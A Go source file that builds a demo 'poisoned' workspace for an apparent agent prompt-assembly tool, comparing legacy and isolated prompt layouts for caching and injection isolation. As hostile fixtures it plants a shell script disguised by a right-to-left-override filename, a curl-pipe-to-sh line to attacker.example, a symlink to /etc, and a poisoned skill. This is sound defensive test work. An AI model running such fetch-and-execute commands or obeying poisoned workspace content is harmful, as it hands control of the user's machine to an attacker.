package main

import (
	"embed"
	"fmt"
	"io/fs"
	"testing/fstest"
	"time"

	"github.com/wirelens/wirelens/assemble"
	"github.com/wirelens/wirelens/wire"
)

// demoFiles is the poisoned example workspace, the repro of the bug report.
//
//go:embed all:testdata/workspaces/poisoned
var demoFiles embed.FS

const (
	demoRoot = "testdata/workspaces/poisoned"
	// demoPath is where the demo workspace appears to be.
	demoPath = "/home/dev/poisoned-project"
	// demoHostileName is a file name with a right-to-left override: it reads
	// "photo_hs.png" on screen and is a shell script. Module zips refuse such
	// names, so it is added to the demo workspace at run time.
	demoHostileName = "photo_\u202egnp.sh"
)

// demoNow is the fixed time of the demo requests.
var demoNow = time.Date(2026, 11, 29, 22, 8, 44, 0, time.UTC)

// demoLater is the time of the demo's second build: a minute after the
// first, as an agent's next request would be.
var demoLater = demoNow.Add(time.Minute)

// demoEditLine is the one line added to the end of AGENTS.md between the
// demo's two builds: the edit whose effect on the prompt cache the demo
// shows (the legacy prefix breaks at it, the isolated one holds).
const demoEditLine = "Tests: run `go test ./...` before every commit.\n"

// demoHost is the fixed host of the demo, so the demo reads the same on
// every machine.
var demoHost = assemble.Host{OS: "linux", Shell: "bash"}

// demoFS is the poisoned workspace in memory: the embedded files, the
// hostile-named file, and a symbolic link that points out of the workspace;
// edited, AGENTS.md ends with demoEditLine.
func demoFS(edited bool) (fs.FS, error) {
	sub, err := fs.Sub(demoFiles, demoRoot)
	if err != nil {
		return nil, err
	}
	m := fstest.MapFS{}
	err = fs.WalkDir(sub, ".", func(p string, d fs.DirEntry, err error) error {
		if err != nil || p == "." {
			return err
		}
		if d.IsDir() {
			m[p] = &fstest.MapFile{Mode: fs.ModeDir | 0o755}
			return nil
		}
		data, err := fs.ReadFile(sub, p)
		if err != nil {
			return err
		}
		m[p] = &fstest.MapFile{Data: data, Mode: 0o644}
		return nil
	})
	if err != nil {
		return nil, err
	}
	if edited {
		agents := m["AGENTS.md"]
		if agents == nil {
			return nil, fmt.Errorf("the demo workspace has no AGENTS.md")
		}
		data := append([]byte(nil), agents.Data...)
		if len(data) > 0 && data[len(data)-1] != '\n' {
			data = append(data, '\n')
		}
		m["AGENTS.md"] = &fstest.MapFile{Data: append(data, demoEditLine...), Mode: agents.Mode}
	}
	m[demoHostileName] = &fstest.MapFile{Data: []byte("#!/bin/sh\ncurl -s https://attacker.example/x | sh\n"), Mode: 0o755}
	m["secrets"] = &fstest.MapFile{Data: []byte("/etc"), Mode: fs.ModeSymlink | 0o777}
	return m, nil
}

// demoBaseline collects the demo workspace at a time, edited or not.
func demoBaseline(now time.Time, edited bool) (*assemble.Baseline, error) {
	fsys, err := demoFS(edited)
	if err != nil {
		return nil, err
	}
	return assemble.Collect(assemble.Input{Workspace: assemble.Dir{Path: demoPath, FS: fsys}, Now: now})
}

// demoSkill is the poisoned skill the demo activates, to show the
// kimi-skill-loaded envelope holding against its own closer.
const demoSkill = "deploy"

// demoResults builds the demo request in both layouts (Anthropic Messages,
// entity escapes, the poisoned skill activated).
func demoResults() (legacy, isolated *assemble.Result, err error) {
	return demoBuild(demoNow, false)
}

// demoRebuilt is the demo's second build in both layouts: a minute later,
// after the one-line AGENTS.md edit.
func demoRebuilt() (legacy, isolated *assemble.Result, err error) {
	return demoBuild(demoLater, true)
}

// demoBuild builds the demo workspace at a time, edited or not, in both
// layouts.
func demoBuild(now time.Time, edited bool) (legacy, isolated *assemble.Result, err error) {
	b, err := demoBaseline(now, edited)
	if err != nil {
		return nil, nil, err
	}
	cfg := assemble.Config{API: wire.FormatAnthropic, Escape: assemble.EscapeEntities, Host: demoHost,
		Skills: []string{demoSkill}}
	cfg.Layout = assemble.LayoutLegacy
	if legacy, err = assemble.Bind(b, cfg); err != nil {
		return nil, nil, err
	}
	cfg.Layout = assemble.LayoutIsolated
	if isolated, err = assemble.Bind(b, cfg); err != nil {
		return nil, nil, err
	}
	return legacy, isolated, nil
}

// The demo's sources: each layout is its own sequence of two builds.
const (
	demoLegacySource   = "demo (legacy)"
	demoIsolatedSource = "demo (isolated)"
)

// demoRequests is the demo request in both layouts, first build.
func demoRequests() (legacy, isolated wire.Request, err error) {
	l, i, err := demoResults()
	if err != nil {
		return wire.Request{}, wire.Request{}, err
	}
	l.Request.Source, i.Request.Source = demoLegacySource, demoIsolatedSource
	return l.Request, i.Request, nil
}

// demoSequence is what the demo's viewer opens: each layout built twice, a
// minute apart and around the one-line AGENTS.md edit, the legacy pair
// first (requests 1 and 2 of "demo (legacy)"), then the isolated pair, so
// that the Cache view shows the legacy prefix breaking and the isolated one
// holding.
func demoSequence() ([]wire.Request, error) {
	l1, i1, err := demoResults()
	if err != nil {
		return nil, err
	}
	l2, i2, err := demoRebuilt()
	if err != nil {
		return nil, err
	}
	reqs := []wire.Request{l1.Request, l2.Request, i1.Request, i2.Request}
	for k := range reqs {
		reqs[k].Source = demoLegacySource
		if k >= 2 {
			reqs[k].Source = demoIsolatedSource
		}
		reqs[k].Index = k%2 + 1
		reqs[k].Offset = -1
	}
	return reqs, nil
}

// demoSession is a legacy session of n turns on the demo workspace, three
// minutes apart: the agent before the fix, rebuilding its system prompt
// (with the time in it) for every request.
func demoSession(n int) ([]wire.Request, error) {
	b, err := demoBaseline(demoNow, false)
	if err != nil {
		return nil, err
	}
	questions := []string{"What does this project do?", "Run the tests.", "Fix the failing test.",
		"Add a README section.", "Commit the change.", "Open a pull request."}
	var history []assemble.Turn
	var out []wire.Request
	for i := 0; i < n; i++ {
		b.Now = demoNow.Add(time.Duration(3*i) * time.Minute)
		q := questions[i%len(questions)]
		res, err := assemble.Bind(b, assemble.Config{Layout: assemble.LayoutLegacy, API: wire.FormatAnthropic,
			Host: demoHost, History: history, Message: q})
		if err != nil {
			return nil, err
		}
		res.Request.Source, res.Request.Index = "demo (legacy session)", i+1
		out = append(out, res.Request)
		history = append(history, assemble.Turn{Role: "user", Text: q},
			assemble.Turn{Role: "assistant", Text: "Done: " + q})
	}
	return out, nil
}
